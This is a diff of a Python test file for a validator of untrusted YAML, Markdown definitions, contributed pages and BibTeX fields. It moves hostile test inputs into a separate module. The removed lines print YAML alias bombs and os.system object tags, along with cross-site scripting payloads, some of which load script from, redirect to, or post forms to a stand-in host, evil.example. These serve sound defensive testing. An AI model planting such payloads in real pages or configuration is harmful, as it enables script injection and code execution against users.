@@ -6,6 +6,7 @@ import re
 from pathlib import Path
 
 import pytest
+from hostile_cases import BAD_DEFINITIONS, BAD_FIELDS, BAD_PAGES, BAD_YAML
 
 from apparat.untrusted import (
     MAX_BYTES,
@@ -20,23 +21,6 @@ from apparat.untrusted import (
 )
 
 # --- YAML -----------------------------------------------------------------------------------------------------
-
-BAD_YAML = {
-    "alias bomb": "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
-    "anchor alone": "entry: &e {lemma: smychka}\n",
-    "python object tag": "x: !!python/object/apply:os.system ['echo hi']\n",
-    "python name tag": "x: !!python/name:os.system\n",
-    "binary tag": "x: !!binary aGVsbG8=\n",
-    "local tag": "x: !custom value\n",
-    "set tag": "x: !!set {a, b}\n",
-    "duplicate key": "lemma: smychka\ngloss: alliance\nlemma: biurokratiia\n",
-    "non-text key": "1: one\n",
-    "unclosed quote": 'lemma: "smychka\n',
-    "bad indentation": "terms:\n  - lemma: a\n   gloss: b\n",
-    "tab indentation": "terms:\n\t- lemma: a\n",
-    "deep nesting": "x: " + "[" * 40 + "]" * 40 + "\n",
-    "merge key with alias": "base: &b {gloss: x}\nentry:\n  <<: *b\n",
-}
 
 
 @pytest.mark.parametrize("name", sorted(BAD_YAML))
@@ -77,21 +61,6 @@ def test_plain_data_keeps_lines_and_dates_stay_text() -> None:
 
 # --- definitions (Markdown subset) ---------------------------------------------------------------------------
 
-BAD_DEFINITIONS = {
-    "script element": "An alliance <script>alert(1)</script> of classes.",
-    "html block": "<div onclick='x()'>text</div>",
-    "img onerror": 'See <img src=x onerror="alert(1)">.',
-    "javascript link": "See [the entry](javascript:alert(1)).",
-    "javascript link, mixed case": "See [it](JaVaScRiPt:alert(1)).",
-    "vbscript link": "See [it](vbscript:msgbox(1)).",
-    "data link": "See [it](data:text/html;base64,PHNjcmlwdD4=).",
-    "autolink javascript": "Go <javascript:alert(1)>.",
-    "image": "![x](https://example.org/tracker.png)",
-    "iframe": "<iframe src='https://example.org'></iframe>",
-    "style element": "<style>body{display:none}</style>",
-    "svg onload": "<svg onload=alert(1)>",
-}
-
 
 @pytest.mark.parametrize("name", sorted(BAD_DEFINITIONS))
 def test_bad_definition_is_reported(name: str) -> None:
@@ -124,21 +93,6 @@ def test_good_definition_passes_and_renders() -> None:
 
 # --- hand-written pages and plain fields -----------------------------------------------------------------------
 
-BAD_PAGES = {
-    "attr_list onclick": 'A paragraph.\n{: onclick="alert(1)" }\n',
-    "attr_list onmouseover": "# Title { onmouseover=steal() }\n",
-    "attr_list style": 'Text\n{: style="position:fixed;top:0" }\n',
-    "md_in_html script": '<div markdown="1">\n<script src="https://evil.example/x.js"></script>\n</div>\n',
-    "javascript href": '<a href="javascript:alert(1)">click</a>\n',
-    "markdown javascript link": "[click](javascript:alert(document.cookie))\n",
-    "encoded javascript": '<a href="&#x6A;avascript:alert(1)">x</a>\n',
-    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">\n',
-    "form": '<form action="https://evil.example"><input name=p></form>\n',
-    "base element": '<base href="https://evil.example/">\n',
-    "object": '<object data="x.swf"></object>\n',
-    "data html link": "[x](data:text/html;base64,PHNjcmlwdD4=)\n",
-}
-
 
 @pytest.mark.parametrize("name", sorted(BAD_PAGES))
 def test_bad_page_is_reported_with_its_line(name: str) -> None:
@@ -153,15 +107,7 @@ def test_honest_page_passes() -> None:
     assert page_problems(text) == []
 
 
-@pytest.mark.parametrize(
-    "value",
-    [
-        "<script>alert(1)</script>",
-        "Title <img src=x onerror=alert(1)>",
-        "javascript:alert(1)",
-        "</title><svg/onload=x>",
-    ],
-)
+@pytest.mark.parametrize("value", BAD_FIELDS)
 def test_markup_in_a_bibtex_field_is_found(value: str) -> None:
     assert field_problems(value)
 
@@ -175,9 +121,11 @@ def test_a_hostile_hand_written_page_fails_the_build_checks(tmp_path: Path) -> N
     from apparat.site.contributed import check_pages
 
     (tmp_path / "about.md").write_text("# About\n\nFine.\n", encoding="utf-8")
-    (tmp_path / "evil.md").write_text("# Evil\n\nClick me\n{: onclick=\"steal()\" }\n", encoding="utf-8")
+    (tmp_path / "evil.md").write_text('# Evil\n\nClick me\n{: onclick="steal()" }\n', encoding="utf-8")
     problems = check_pages(tmp_path)
-    assert [(Path(p.path).name, p.line, p.code.value) for p in problems] == [("evil.md", 4, "data.unsafe-page")]
+    assert [(Path(p.path).name, p.line, p.code.value) for p in problems] == [
+        ("evil.md", 4, "data.unsafe-page")
+    ]
 
 
 def test_the_project_pages_are_clean() -> None:
